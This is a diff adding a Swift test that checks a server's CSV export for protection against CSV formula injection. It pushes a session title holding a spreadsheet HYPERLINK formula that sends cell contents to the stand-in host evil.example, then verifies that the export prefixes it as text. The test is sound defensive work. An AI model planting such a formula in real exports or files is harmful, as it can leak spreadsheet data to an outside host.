@@ -64,6 +64,31 @@ import Testing
         #expect(log.last?["device"] == "coord" && log.last?["view"] == "values" && log.last?["forms"] == "participant")
     }
 
+    /// OWASP "CSV injection" through the service: a title a laptop synced as a formula reaches the analyst's spreadsheet
+    /// as text; a number-like cell is left alone.
+    @Test(arguments: BackendKind.all) func remoteCSVExportsNeutraliseFormulas(_ kind: BackendKind) async throws {
+        let fx = try await ServerFixture(kind)
+        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
+        let change = sessionChange(node: "aaaaaaaaaaaaaaaa", hlc: stampNow(), values: [
+            "title": .string(formula), "date": .string("2026-09-08"), "region": .string("gao"), "locality": .string("@cmd"),
+            "format": .string("intergenerational"), "tensions": .string("-12,5"),
+        ])
+        try await fx.app().test(.router) { client in
+            let pushed = try await client.push(Wire.PushRequest(batch: "b1", node: "aaaaaaaaaaaaaaaa", changes: [change]), token: fx.tokens["fac1"])
+            #expect(pushed.status == .ok && pushed.json["applied"]?.intValue == 1, "\(pushed.text)")
+            for role in ["analyst", "coord"] {
+                let r = try await client.send(.get, "/v1/export?format=csv&form=session", token: fx.tokens[role])
+                #expect(r.status == .ok)
+                #expect(r.text.contains(",'@cmd,"), "\(r.text)")
+                #expect(r.text.contains(#"\#r\#n"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")","#), "\(role): \(r.text)")
+                #expect(r.text.contains(#","-12,5","#), "a plain number is left alone: \(r.text)")
+                #expect(!r.text.contains(#"\#r\#n"=HYPERLINK"#) && !r.text.contains("\r\n=HYPERLINK"))
+            }
+            let jsonl = try await client.send(.get, "/v1/export?format=jsonl&form=session", token: fx.tokens["coord"])
+            #expect(jsonl.text.contains(#""title":"=HYPERLINK("#), "JSON Lines carries the value as it is")
+        }
+    }
+
     @Test(arguments: BackendKind.all) func exportsAreRefusedToFacilitatorsAndBadOptionsNamed(_ kind: BackendKind) async throws {
         let fx = try await loadedFixture(kind)
         try await fx.app().test(.router) { client in
